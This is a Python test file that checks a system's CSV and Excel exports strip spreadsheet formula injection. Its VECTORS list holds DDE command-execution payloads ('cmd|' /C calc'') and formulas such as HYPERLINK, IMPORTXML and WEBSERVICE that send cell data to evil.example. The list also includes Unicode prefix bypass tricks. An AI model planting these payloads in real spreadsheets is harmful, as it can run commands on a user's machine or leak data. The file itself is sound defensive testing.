"""No sheet that leaves the engine holds a formula, whatever a department or a visitor wrote (ASVS 1.2.10)."""

import csv
import dataclasses
import io
from pathlib import Path

import openpyxl
import pyarrow as pa
import pytest

import serving
from serving.delivery.files.formulas import harmless, is_formula, meant
from serving.delivery.files.spreadsheets import to_csv, to_xlsx
from serving.departments.refused_rows import read_rows, write_rows
from tests.serving.test_assignment import case
from tests.serving.test_exports import document, saying
from tests.serving.village import GRIDS, NIGHT, policy

VECTORS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"__DdeLink")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    " =1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "\ufe66=1",
    "\ufe621",
    "%0A=1+1".replace("%0A", "\n"),
]
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def opens_harmlessly(cell):
    return not cell.startswith(STARTS) and not is_formula(cell)


def cells_of_csv(content):
    return [
        cell
        for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
        for cell in row
    ]


def cells_of_xlsx(content):
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("text", VECTORS)
def test_no_cell_of_a_list_is_a_formula(text):
    grid = dataclasses.replace(GRIDS["g1"], grid_name=text, street_name=text, community_name=text)
    shown = document(saying(text), case("h2"), grid=grid)

    assert all(opens_harmlessly(cell) for cell in cells_of_csv(to_csv(shown)))
    cells = cells_of_xlsx(to_xlsx(shown, policy=policy(), as_of_date=NIGHT))
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not [cell.coordinate for cell in cells if cell.hyperlink is not None]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_refused_rows_go_out_harmless_and_come_back_as_they_were(tmp_path, suffix):
    kept = [text for text in VECTORS if "\0" not in text and "\r" not in text]
    rows = pa.table({"name": pa.array(kept)})
    path = tmp_path / f"rows{suffix}"

    write_rows(rows, path)

    if suffix == ".csv":
        assert all(opens_harmlessly(cell) for cell in cells_of_csv(path.read_bytes()))
    else:
        assert {cell.data_type for cell in cells_of_xlsx(path.read_bytes())} == {"s"}
    assert read_rows(path)["name"].to_pylist() == kept


@pytest.mark.parametrize("text", VECTORS)
def test_what_was_made_harmless_is_known_again(text):
    assert opens_harmlessly(harmless(text))
    assert meant(harmless(text)) == text


def test_every_writer_of_sheets_asks():
    """A new export that writes cells without asking fails here."""
    root = Path(serving.__file__).parent
    writers = [
        path
        for path in root.rglob("*.py")
        if any(
            word in path.read_text("utf-8")
            for word in ("csv.writer(", "DictWriter(", ".write_string(")
        )
    ]

    assert len(writers) >= 5
    assert [path.name for path in writers if "harmless(" not in path.read_text("utf-8")] == []
